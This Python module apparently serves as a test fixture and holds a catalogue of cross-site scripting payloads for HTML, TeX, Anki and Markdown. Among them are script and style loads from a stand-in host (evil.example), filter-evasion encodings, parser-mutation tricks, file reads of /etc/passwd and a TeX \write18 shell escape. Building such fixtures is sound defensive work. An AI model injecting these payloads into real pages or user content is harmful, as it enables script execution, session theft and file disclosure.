"""What pages try on those who show their text: a string for each well-known class (OWASP's, and those of TeX and Anki).

Each says `pwned` where it would have its effect: in a script, a handler, a style, an address.
"""
# ruff: noqa: E501 (a payload in two pieces is another payload to the eye)

from typing import Final

__all__ = ["ATTACKS", "SWALLOWING"]

ATTACKS: Final[dict[str, str]] = {
    # scripts
    "script": "<script>alert('pwned')</script>",
    "script in capitals": "<ScRiPt SRC=https://evil.example/pwned.js></sCrIpT>",
    "script within script": "<scr<script>ipt>alert('pwned')</scr</script>ipt>",
    "script of a text type": '<script type="text/x-template"><img src=x onerror=pwned()></script>',
    "script of mathematics": '<script type="math/tex">\\href{javascript:pwned()}{x}</script>',
    "script in a namespace": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwned()</x:script>",
    # handlers
    "handler of an image": "<img src=x onerror=alert('pwned')>",
    "handler without spaces": "<img/src=x/onerror=pwned()>",
    "handler behind a slash and a line break": "<svg/onload\n=\npwned()>",
    "handler of the body": "<body onload=pwned()>",
    "handler of focus": "<input autofocus onfocus=pwned()>",
    "handler of details": "<details open ontoggle=pwned()><summary>more</summary></details>",
    "handler of a bold word": '<b onmouseover="pwned()">word</b>',
    "handler in backticks": "<img src=`x`onerror=pwned()>",
    "handler of a marquee": "<marquee onstart=pwned()>word</marquee>",
    "handler of an animation": "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    # addresses
    "javascript link": "<a href=\"javascript:alert('pwned')\">link</a>",
    "javascript link in capitals": '<a href="JaVaScRiPt:pwned()">link</a>',
    "javascript link in entities": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;pwned()">link</a>',
    "javascript link in entities without ends": '<a href="&#0000106avascript&#0000058pwned()">link</a>',
    "javascript link with a named colon": '<a href="javascript&colon;pwned()">link</a>',
    "javascript link with a tab": '<a href="java\tscript:pwned()">link</a>',
    "javascript link with a line break": '<a href="java&#10;script:pwned()">link</a>',
    "javascript link with NUL": '<a href="java\0script:pwned()">link</a>',
    "javascript link behind control characters": '<a href="&#1;&#14; javascript:pwned()">link</a>',
    "vbscript link": "<a href=\"vbscript:msgbox('pwned')\">link</a>",
    "data link": '<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+">link</a>',
    "data link of a picture type": "<a href=\"data:image/svg+xml,<svg onload=pwned()>\">link</a>",
    "file link": '<a href="file:///etc/passwd?pwned">link</a>',
    "link without a scheme from a base": "<base href='javascript:pwned()//'><a href='x'>link</a>",
    "javascript picture": '<img src="javascript:pwned()" alt="picture">',
    "data picture that is a page": '<img src="data:text/html,<script>pwned()</script>" alt="picture">',
    "quotes in the alt text": "<img src='https://e.example/x.png' alt='\"><script>pwned()</script>'>",
    "quotes in an address": "<a href='https://e.example/\"onmouseover=\"pwned()'>link</a>",
    # elements
    "svg with a link": "<svg><a xlink:href='javascript:pwned()'><text x=20 y=20>word</text></a></svg>",
    "svg use": "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='pwned()'/>#x\"></svg>",
    "math with a link": "<math href='javascript:pwned()'><mi>x</mi></math>",
    "math action": "<math><maction actiontype='statusline' xlink:href='javascript:pwned()'><mi>x</mi></maction></math>",
    "iframe": '<iframe src="javascript:pwned()"></iframe>',
    "iframe with its own page": "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>",
    "object": '<object data="data:text/html,<script>pwned()</script>"></object>',
    "embed": '<embed src="https://evil.example/pwned.swf">',
    "applet": "<applet code=pwned.class></applet>",
    "form": '<form action="https://evil.example/pwned"><input name=a><button formaction="javascript:pwned()">go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:pwned()">',
    "link to a style sheet": '<link rel=stylesheet href="https://evil.example/pwned.css">',
    "style element": "<style>@import 'https://evil.example/pwned.css'; body{display:none}</style>",
    "style attribute": '<p style="background:url(javascript:pwned())">word</p>',
    "style expression": '<p style="width:expr/**/ession(pwned())">word</p>',
    "template": "<template><script>pwned()</script></template>",
    "portal and slot": "<slot name=x><portal src='https://evil.example/pwned'></portal></slot>",
    "processing instruction": "<?xml-stylesheet href='javascript:pwned()'?>",
    "conditional comment": "<!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "character data": "<![CDATA[<script>pwned()</script>]]>",
    # what one parser reads in another way than the next
    "mutation through noscript": '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
    "mutation through style in svg": '<svg></p><style><a id="</style><img src=1 onerror=pwned()>"></style></svg>',
    "mutation through title in svg": "<svg><title><style><img title='</style><img src=x onerror=pwned()>'></title></svg>",
    "escaped once": "&lt;script&gt;alert('pwned')&lt;/script&gt;",
    "escaped twice": "&amp;lt;img src=x onerror=pwned()&amp;gt;",
    "full-width brackets": "\uff1cscript\uff1ealert('pwned')\uff1c/script\uff1e",
    "overlong encoding left by a decoder": "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    # TeX
    "link in TeX": "\\(\\href{javascript:pwned()}{x}\\)",
    "link in TeX with spaces": "\\[\\href {java\tscript:pwned()} {x}\\]",
    "address in TeX": "$\\url{javascript:pwned()}$",
    "character in TeX": "\\(\\unicode{<img src=1 onerror=pwned()>}\\)",
    "style in TeX": "$$\\style{background:url(https://evil.example/pwned)}{x} + \\class{pwned}{y}$$",
    "extension in TeX": "\\(\\require{html}\\cssId{pwned}{x}\\)",
    "macro in TeX": "\\(\\def\\go#1{\\href{#1}{x}}\\go{javascript:pwned()}\\)",
    "environment in TeX": "\\begin{align}\\href{javascript:pwned()}{x} &= 1\\end{align}",
    "file in TeX": "\\(\\input{/etc/passwd}\\)",
    # Anki
    "field of a template": "{{Front}} {{type:Back}} {{#Back}}pwned{{/Back}} {{FrontSide}}",
    "cloze": "{{c1::pwned::hint}}",
    "sound": "[sound:pwned.mp3]",
    "speech": "[anki:tts lang=en_US]pwned[/anki:tts]",
    "LaTeX of Anki": "[latex]\\input{pwned}[/latex] [$]\\write18{pwned}[/$] [$$]x[/$$]",
    "spreadsheet formula": "=HYPERLINK(\"https://evil.example/pwned\",\"x\")",
    # Markdown
    "javascript link in Markdown": "[link](javascript:pwned())",
    "javascript link in Markdown with entities": "[link](&#106;avascript:pwned())",
    "data picture in Markdown": "![picture](data:text/html,<script>pwned()</script>)",
    "reference in Markdown": "[link][p]\n\n[p]: javascript:pwned()",
    "autolink in Markdown": "<javascript:pwned()>",
}  # fmt: skip

# What takes the rest of an HTML page with it: each on a page of its own.
SWALLOWING: Final[dict[str, str]] = {
    "script not closed at a bracket": "<script/src='data:text/javascript,pwned()'",
    "mutation through math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    "mutation through a form in math": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "textarea": "<textarea><script>pwned()</script>",
    "title": "<title><script>pwned()</script>",
    "plaintext": "<plaintext><script>pwned()</script>",
    "xmp": "<xmp><script>pwned()</script>",
    "comment": "<!--><script>pwned()</script>",
    "select": "<select><script>pwned()</script><option>",
    "frameset": "<frameset onload=pwned()><frame src='javascript:pwned()'>",
    "script": "<script>pwned()//",
    "style": "<style>*{background:url(javascript:pwned())}",
}
